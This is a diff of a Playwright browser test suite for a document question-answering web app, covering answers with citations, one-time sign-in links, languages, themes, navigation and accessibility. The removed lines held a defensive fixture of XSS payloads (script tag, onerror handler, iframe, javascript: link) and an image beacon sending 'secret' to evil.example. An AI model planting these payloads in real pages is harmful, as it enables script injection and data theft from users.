@@ -1,137 +1,212 @@
-import { mkdirSync, writeFileSync } from 'node:fs';
-import { join } from 'node:path';
-import { AxeBuilder } from '@axe-core/playwright';
-import type { Browser, BrowserContext, Page } from 'playwright-core';
-import { afterAll, afterEach, beforeAll, beforeEach, describe, expect, it } from 'vitest';
-import { chromiumPath, openBrowser } from './browser.ts';
-import { openSandbox, type Sandbox } from './sandbox.ts';
+import { afterAll, afterEach, beforeAll, describe, expect, it } from 'vitest';
+import { chromiumPath } from './browser.ts';
+import { openPageWorld, type PageWorld, untroubled, type Visited } from './page-world.ts';
 
-let gecko: Sandbox;
-let browser: Browser;
-let context: BrowserContext;
-let page: Page;
-let address: string;
-/** What the page asked for beyond its own origin, and what went wrong in it. */
-let strayRequests: string[];
-let problems: string[];
+let world: PageWorld;
+let visited: Visited;
 
-const hostile = [
-  '---',
-  'title: \'<img src="https://evil.example/t.png" onerror="document.title=1">\'',
-  '---',
-  '# Lantern <script>document.title="owned"</script>',
-  '',
-  'The lantern burns nine hours. ![pixel](https://evil.example/p.png?q=secret)',
-  '<iframe src="https://evil.example/"></iframe> [see](javascript:document.title=2)',
-  '',
-].join('\n');
+/** Phone, tablet, desk. */
+const widths = [390, 820, 1440];
+const looks = (['light', 'dark'] as const).flatMap((colorScheme) =>
+  (['en-GB', 'es-ES'] as const).map((locale) => ({ colorScheme, locale })),
+);
+const documents = {
+  'warranty.md': '# Warranty\n\nThe pump has a warranty of thirty months.\n',
+  'garantia.md': '# Garantía\n\nLa bomba tiene una garantía de treinta meses.\n',
+};
 
 describe.skipIf(chromiumPath === null)('the page in a real browser', () => {
   beforeAll(async () => {
-    gecko = await openSandbox('');
-    const folder = join(gecko.home, 'shop');
-    mkdirSync(folder);
-    writeFileSync(
-      join(folder, 'warranty.md'),
-      '# Warranty\n\nThe pump has a warranty of thirty months.\n',
-    );
-    writeFileSync(join(folder, 'lantern.md'), hostile);
-    await gecko.run(['ingest', folder]);
-    address = `http://127.0.0.1:${gecko.ports.web}`;
-    browser = await openBrowser();
+    world = await openPageWorld(documents);
   });
-  afterAll(async () => {
-    await browser?.close();
-    await gecko?.close();
-  });
-  beforeEach(async () => {
-    strayRequests = [];
-    problems = [];
-    context = await browser.newContext();
-    page = await context.newPage();
-    page.on('request', (request) => {
-      const url = request.url();
-      if (!url.startsWith(address) && !url.startsWith('data:')) strayRequests.push(url);
-    });
-    page.on('pageerror', (error) => problems.push(error.message));
-    page.on('console', (message) => {
-      if (message.type() === 'error') problems.push(message.text());
-    });
-    await page.goto(address);
-  });
-  afterEach(() => context.close());
-
-  async function ask(question: string): Promise<void> {
-    await page.getByLabel('Question').fill(question);
-    await page.getByRole('button', { name: 'Ask' }).click();
-    await page.locator('#generator').getByText('retrieval').waitFor();
-  }
+  afterAll(() => world?.close());
+  afterEach(() => visited?.context.close());
 
   it('answers a question, and a source opens its document at the passage', async () => {
-    await ask('Which warranty does the pump have?');
-    expect(await page.locator('#answer').textContent()).toContain('thirty months');
-    await page.getByRole('button', { name: /shop\/warranty\.md:\d+/ }).click();
-    expect(await page.locator('#document-text mark').textContent()).toContain('thirty months');
-    expect(await page.getByRole('heading', { name: 'shop/warranty.md' }).isVisible()).toBe(true);
-    expect({ problems, strayRequests }).toEqual({ problems: [], strayRequests: [] });
-  });
-
-  it('asks by the keyboard alone', async () => {
-    await page.getByLabel('Question').focus();
-    await page.keyboard.type('Which warranty does the pump have?');
-    await page.keyboard.press('Enter');
-    await page.locator('#answer').getByText('thirty months').waitFor();
-  });
-
-  it('shows a hostile document as text, and lets nothing out', async () => {
-    await ask('How long does the lantern burn?');
-    expect(await page.locator('#answer').textContent()).toContain('nine hours');
-    await page.getByRole('button', { name: /shop\/lantern\.md/ }).click();
-    await page.locator('#document-text mark').waitFor();
-    expect(await page.title()).toBe('gecko');
-    expect(await page.locator('main img, main iframe, main script, main a').count()).toBe(0);
-    expect({ problems, strayRequests }).toEqual({ problems: [], strayRequests: [] });
-  });
-
-  it('says that an answer broke off', async () => {
-    const body = 'event: token\ndata: {"text":"Thirty"}\n\n';
-    await page.route('**/api/rag/ask', (route) =>
-      route.fulfill({ contentType: 'text/event-stream', body }),
+    visited = await world.visit();
+    const { page } = visited;
+    await visited.askToEnd('Which warranty does the pump have?');
+    expect(await page.locator('.answer-text').textContent()).toContain('thirty months');
+    await page.getByRole('button', { name: /shop\/warranty\.md, line \d+/ }).click();
+    await page.locator('mark').getByText('thirty months').waitFor();
+    expect(await page.getByRole('heading', { name: 'Warranty', exact: true }).isVisible()).toBe(
+      true,
     );
-    await page.getByLabel('Question').fill('How long is the warranty?');
-    await page.getByRole('button', { name: 'Ask' }).click();
-    await page.getByText('The answer broke off before its end.').waitFor();
+    expect(visited.trouble).toEqual(untroubled);
   });
 
-  it('says plainly that the corpus does not answer', async () => {
-    await ask('What is the capital of Mongolia?');
-    expect(await page.locator('#answer').textContent()).toMatch(/do not answer this question/);
-    expect(await page.locator('#citations li').count()).toBe(0);
-  });
-
-  it('is signed in by a link that works once', async () => {
-    const { document } = await gecko.json(['open', '--no-browser']);
+  it('is signed in by a link that works once, and says so', async () => {
+    visited = await world.visit();
+    const { page, context } = visited;
+    const { document } = await world.gecko.json(['open', '--no-browser']);
     const link = String(document.link);
-    expect(await page.locator('#session').textContent()).toMatch(/^Not signed in/);
+    await page.getByText('Read only').click();
+    expect(await page.locator('.hint-card').textContent()).toContain('gecko open');
     await page.goto(link);
-    await page.locator('#session').getByText('Signed in.').waitFor();
+    await page.getByText('Signed in').waitFor();
     const [cookie] = await context.cookies();
     expect(cookie).toMatchObject({ httpOnly: true, sameSite: 'Strict' });
     expect((await page.goto(link))?.status()).toBe(403);
   });
 
-  it.each(['light', 'dark'] as const)('has no accessibility violation in %s', async (scheme) => {
-    await page.emulateMedia({ colorScheme: scheme });
-    await ask('Which warranty does the pump have?');
-    await page.getByRole('button', { name: /shop\/warranty\.md/ }).click();
-    const { violations } = await new AxeBuilder({ page }).analyze();
-    expect(violations.map(({ id, nodes }) => `${id}: ${nodes[0]?.html}`)).toEqual([]);
+  it.each([
+    {
+      locale: 'en-GB',
+      title: 'What do you want to know?',
+      other: 'Español',
+      after: '¿Qué quieres saber?',
+    },
+    {
+      locale: 'es-MX',
+      title: '¿Qué quieres saber?',
+      other: 'English',
+      after: 'What do you want to know?',
+    },
+    {
+      locale: 'fr-FR',
+      title: 'What do you want to know?',
+      other: 'Español',
+      after: '¿Qué quieres saber?',
+    },
+  ])('speaks to a browser in $locale, and the other language where it is chosen', async (one) => {
+    visited = await world.visit({ locale: one.locale });
+    const { page } = visited;
+    await page.getByRole('heading', { name: one.title }).waitFor();
+    await page.getByRole('button', { name: one.other }).click();
+    await page.getByRole('heading', { name: one.after }).waitFor();
+    await page.reload();
+    await page.getByRole('heading', { name: one.after }).waitFor();
+    expect(await page.evaluate('document.documentElement.lang')).toBe(
+      one.after.startsWith('¿') ? 'es' : 'en',
+    );
   });
 
-  it('fits a phone without scrolling sideways', async () => {
-    await page.setViewportSize({ width: 320, height: 640 });
-    await ask('How long does the lantern burn?');
-    const width = await page.evaluate('document.documentElement.scrollWidth');
-    expect(width).toBeLessThanOrEqual(320);
+  it('takes the theme of the system until one is chosen', async () => {
+    visited = await world.visit({ colorScheme: 'dark' });
+    const { page } = visited;
+    const ground = () => page.evaluate('getComputedStyle(document.body).backgroundColor');
+    const dark = await ground();
+    await page.emulateMedia({ colorScheme: 'light' });
+    await expect.poll(ground).not.toBe(dark);
+    const light = await ground();
+    await page.getByRole('button', { name: 'Switch to dark' }).click();
+    await expect.poll(ground).toBe(dark);
+    await page.reload();
+    await expect.poll(ground).toBe(dark);
+    await page.getByRole('button', { name: 'Switch to light' }).click();
+    await expect.poll(ground).toBe(light);
+  });
+
+  it('leads to every view, keeps deep links, and says where an address leads nowhere', async () => {
+    visited = await world.visit();
+    const { page } = visited;
+    for (const [name, path] of [
+      ['Corpus', '/corpus'],
+      ['System', '/system'],
+    ] as const) {
+      await page.getByRole('link', { name }).click();
+      await page.getByRole('heading', { name, level: 1 }).waitFor();
+      expect(new URL(page.url()).pathname).toBe(path);
+      await page.reload();
+      await page.getByRole('heading', { name, level: 1 }).waitFor();
+    }
+    await page.goto(`${world.address}/nowhere`);
+    await page.getByRole('link', { name: 'Ask a question' }).click();
+    await page.getByRole('heading', { name: 'What do you want to know?' }).waitFor();
+    expect(visited.trouble).toEqual(untroubled);
+  });
+
+  it('says that the backend does not answer, and looks again when asked to', async () => {
+    visited = await world.visit();
+    const { page } = visited;
+    await page.route('**/api/**', (route) => route.abort());
+    await page.reload();
+    await page.getByText('The backend does not answer.').waitFor();
+    await page.unroute('**/api/**');
+    await page.getByRole('button', { name: 'Try again' }).click();
+    await page.getByText('The backend does not answer.').waitFor({ state: 'detached' });
+  });
+
+  describe.each(looks)('in $colorScheme and $locale', ({ colorScheme, locale }) => {
+    it.each(widths)('has no accessibility violation, and fits, at %i pixels', async (width) => {
+      const question =
+        locale === 'es-ES' ? '¿Qué garantía tiene la bomba?' : 'Which warranty does the pump have?';
+      visited = await world.visit({
+        ...{ colorScheme, locale, viewport: { width, height: 800 }, hasTouch: width === 390 },
+      });
+      const { page } = visited;
+      const found: string[] = [];
+      const look = async (where: string) => {
+        const wide = await page.evaluate('document.documentElement.scrollWidth');
+        if (Number(wide) > width) found.push(`${where} is ${wide} wide`);
+        found.push(...(await visited.violations()).map((one) => `${where}: ${one}`));
+      };
+      await page.locator('.readiness').waitFor();
+      await look('welcome');
+      await visited.askToEnd(question);
+      await page.locator('.analysis summary').click();
+      await look('answer');
+      await page.locator('.cite').first().click();
+      await page.locator('.panel mark').waitFor();
+      await look('passage');
+      await page.keyboard.press('Escape');
+      await visited.askToEnd('What is the capital of Mongolia?');
+      await look('no answer');
+      if (await page.locator('.list-toggle').isVisible())
+        await page.locator('.list-toggle').click();
+      await page.locator('.menu summary').first().click();
+      await look('conversations');
+      for (const path of ['/corpus', '/system', '/nowhere']) {
+        await page.goto(`${world.address}${path}`);
+        await page.locator('main h1, main h2').first().waitFor();
+        await look(path);
+      }
+      expect(found).toEqual([]);
+    });
+  });
+
+  it('says of an empty corpus how documents come in', async () => {
+    visited = await world.visit();
+    const { page } = visited;
+    await page.route('**/collections', (route) => route.fulfill({ json: { collections: [] } }));
+    await page.reload();
+    await page.getByRole('heading', { name: 'The corpus is empty' }).waitFor();
+    expect(await visited.violations()).toEqual([]);
+    await page.getByRole('link', { name: 'Add documents' }).click();
+    await page.getByRole('heading', { name: 'Corpus', level: 1 }).waitFor();
+  });
+
+  it('closes what it opened by Esc, and gives the focus back', async () => {
+    visited = await world.visit({ viewport: { width: 820, height: 900 } });
+    const { page } = visited;
+    const focused = () => page.evaluate('document.activeElement.className');
+    await page.getByRole('button', { name: 'Conversations' }).click();
+    await expect.poll(focused).toContain('new');
+    await page.keyboard.press('Escape');
+    await expect.poll(focused).toContain('list-toggle');
+    await page.getByText('Read only').click();
+    await page.keyboard.press('Escape');
+    await page.locator('.hint-card').waitFor({ state: 'hidden' });
+    await visited.askToEnd('Which warranty does the pump have?');
+    await page.locator('.cite').first().click();
+    await page.locator('.panel mark').waitFor();
+    expect(await focused()).toBe('');
+    await page.keyboard.press('Escape');
+    await page.locator('.panel').waitFor({ state: 'detached' });
+    await expect.poll(focused).toBe('cite');
+  });
+
+  it('gives fingers enough room on a phone', async () => {
+    visited = await world.visit({ viewport: { width: 390, height: 844 }, hasTouch: true });
+    const { page } = visited;
+    await visited.askToEnd('Which warranty does the pump have?');
+    const small = await page
+      .locator('.button:visible, .views a, .passage, .segments label')
+      .evaluateAll((all) =>
+        all
+          .filter((one) => one.getBoundingClientRect().height < 40)
+          .map((one) => `${one.className} ${one.textContent}`),
+      );
+    expect(small).toEqual([]);
   });
 });
